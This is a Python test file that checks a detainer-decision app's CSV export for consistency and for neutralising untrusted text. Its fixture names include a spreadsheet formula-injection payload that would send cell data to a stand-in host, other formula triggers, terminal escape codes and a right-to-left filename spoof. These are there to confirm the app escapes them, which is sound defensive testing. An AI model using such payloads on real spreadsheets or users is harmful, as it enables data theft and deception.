"""decisions.csv made by SQLite's printf, range by range, here or in worker processes, is
byte for byte the CSV Python's csv module writes from the plain rows: same rows, same order
(ties in received time included), same quoting (NUL characters, quotes, commas and line
breaks too), the same escaped control characters and the same guard on cells a spreadsheet
would read as a formula, with or without filters; on a real SQLite file.

(Control characters are written as escapes and formula-like cells get a leading apostrophe
since the untrusted-text work of issue 14: the assertions below expect that on purpose.)"""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest

from detainer_desk.adapters.db import export_table
from detainer_desk.domain.text import csv_cell
from detainer_desk.services.export import EXPORT_COLUMNS, export_csv
from detainer_desk.services.ports import Actor, DecisionQuery
from detainer_desk.services.records import activate_policy, record_decision

from .helpers import JUDICIAL_WARRANT_POLICY, request_json, seed_accounts, tamper

NOW = dt.datetime(2026, 2, 10, 17, 0, tzinfo=dt.UTC)
NAMES = [
    'DOE, "Johnny" Jr.',
    "NGUYỄN, Thị Minh",
    "O'BRIEN, Seán",
    "GARCÍA, María José",
    "TWO\r\nLINES, Name",
    '=HYPERLINK("http://x.example/?"&A1,"open"), Eve',
    "+1 SMITH, Ann",
    "-2 JONES, Bo",
    "@SUM(A1), Cy",
    "ESC\x1b[31m RED, Dee \u202etxt.exe",
]


@pytest.fixture
def store(runtime, monkeypatch):
    monkeypatch.setattr(export_table, "CSV_RANGE", 4)  # many small ranges
    seed_accounts(runtime.uow(), NOW)
    activate_policy(runtime.uow(), JUDICIAL_WARRANT_POLICY, "p.toml", Actor("admin", "W"), NOW)
    for n in range(23):
        changes: dict[str, Any] = {
            "subject.name": NAMES[n % len(NAMES)],
            "subject.booking_number": f"B,{n}" if n % 5 == 0 else f"B{n}",
            # several requests share a received time: ranges must split ties correctly
            "received_at": f"2026-02-{1 + n // 3:02d}T08:30:00-08:00",
        }
        if n % 4 == 0:
            changes["documents"] = []
        record_decision(
            runtime.uow(), request_json(**changes), "r.json", [], Actor("officer.a", "W"), NOW
        )
    return runtime


def _csv(store, query: DecisionQuery, workers: int) -> tuple[str, int]:
    with store.uow() as uow:
        pieces = list(uow.records.export_csv_text(query, workers=workers))
    return "".join(text for text, _ in pieces), sum(rows for _, rows in pieces)


@pytest.mark.parametrize(
    "query",
    [
        DecisionQuery(),
        DecisionQuery(search="doe"),
        DecisionQuery(outcome="notify"),
        DecisionQuery(received_from=dt.datetime(2026, 2, 3, tzinfo=dt.UTC)),
    ],
    ids=["all", "search", "outcome", "from"],
)
def test_workers_write_the_same_csv(store, query) -> None:
    with store.uow() as uow:
        pieces = list(uow.records.table.csv_by_rows(query))
    by_rows, count = "".join(t for t, _ in pieces), sum(n for _, n in pieces)
    assert _csv(store, query, workers=1) == (by_rows, count)
    assert _csv(store, query, workers=2) == (by_rows, count)
    alone, count_alone = by_rows, count
    rows = list(csv.reader(io.StringIO(alone, newline="")))
    assert len(rows) == count_alone > 0
    assert all(len(row) == len(EXPORT_COLUMNS) for row in rows)
    keys = [(row[EXPORT_COLUMNS.index("Detainer Received Date")], int(row[0])) for row in rows]
    assert keys == sorted(keys)


def test_the_csv_command_path_reads_back(store, tmp_path) -> None:
    target = tmp_path / "decisions.csv"
    with target.open("x", encoding="utf-8", newline="") as handle:
        count = export_csv(
            store.uow(), Actor("counsel.d", "W"), DecisionQuery(), "court", handle, NOW
        )
    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(EXPORT_COLUMNS) and len(rows) == count + 1 == 24
    written = {row[EXPORT_COLUMNS.index("Subject Name")] for row in rows[1:]}
    assert written == {csv_cell(name) for name in NAMES}
    text = target.read_bytes()
    assert text.startswith(b'"Decision ID","Detainer Received Date"')


def test_a_stored_nul_character_is_written_out(store) -> None:
    """A NUL cannot be recorded, but a store altered by hand may hold one: the CSV writes
    what is stored (SQLite's printf would stop at it; such a row goes through csv)."""
    tamper(store, "UPDATE requests SET subject_name = 'NUL' || char(0) || ' IN' WHERE id = 5")
    with store.uow() as uow:
        by_rows = "".join(t for t, _ in uow.records.table.csv_by_rows(DecisionQuery()))
    assert '"NUL\\u0000 IN"' in by_rows  # escaped, never a raw NUL
    assert _csv(store, DecisionQuery(), workers=1)[0] == by_rows
    assert _csv(store, DecisionQuery(), workers=2)[0] == by_rows


def test_both_databases_write_the_same_csv(db_runtime, tmp_path) -> None:
    """SQLite (lines made by the database) and PostgreSQL (the csv module) agree."""
    seed_accounts(db_runtime.uow(), NOW)
    activate_policy(db_runtime.uow(), JUDICIAL_WARRANT_POLICY, "p.toml", Actor("admin", "W"), NOW)
    for n, name in enumerate(NAMES):
        changes = {"subject.name": name, "subject.booking_number": f"B{n}"}
        record_decision(
            db_runtime.uow(), request_json(**changes), "r.json", [], Actor("officer.a", "W"), NOW
        )
    handle = io.StringIO(newline="")
    count = export_csv(
        db_runtime.uow(), Actor("counsel.d", "W"), DecisionQuery(), "court", handle, NOW
    )
    rows = list(csv.reader(io.StringIO(handle.getvalue(), newline="")))
    assert count == len(NAMES) == len(rows) - 1
    assert [row[EXPORT_COLUMNS.index("Subject Name")] for row in rows[1:]] == [
        csv_cell(name) for name in NAMES
    ]
    hashes = handle.getvalue().split("\r\n")[1].rsplit(",", 2)
    assert hashes[1].isdigit() and hashes[2].startswith('"')  # seq bare, hash quoted


def test_when_workers_break_the_rest_is_written_here(store, monkeypatch) -> None:
    """A worker that dies (or workers that cannot start) cost speed, never rows."""
    from concurrent.futures.process import BrokenProcessPool

    from detainer_desk.adapters.db import csv_worker

    class DyingPool:
        def map(self, function, paths, pieces):
            for number, (path, piece) in enumerate(zip(paths, pieces, strict=True)):
                if number == 2:
                    raise BrokenProcessPool("a worker was killed")
                yield csv_worker.csv_range(path, piece)

        def shutdown(self, wait=True, cancel_futures=False):
            pass

    expected = _csv(store, DecisionQuery(), workers=1)
    monkeypatch.setattr(export_table, "start_pool", lambda count: DyingPool())
    assert _csv(store, DecisionQuery(), workers=2) == expected
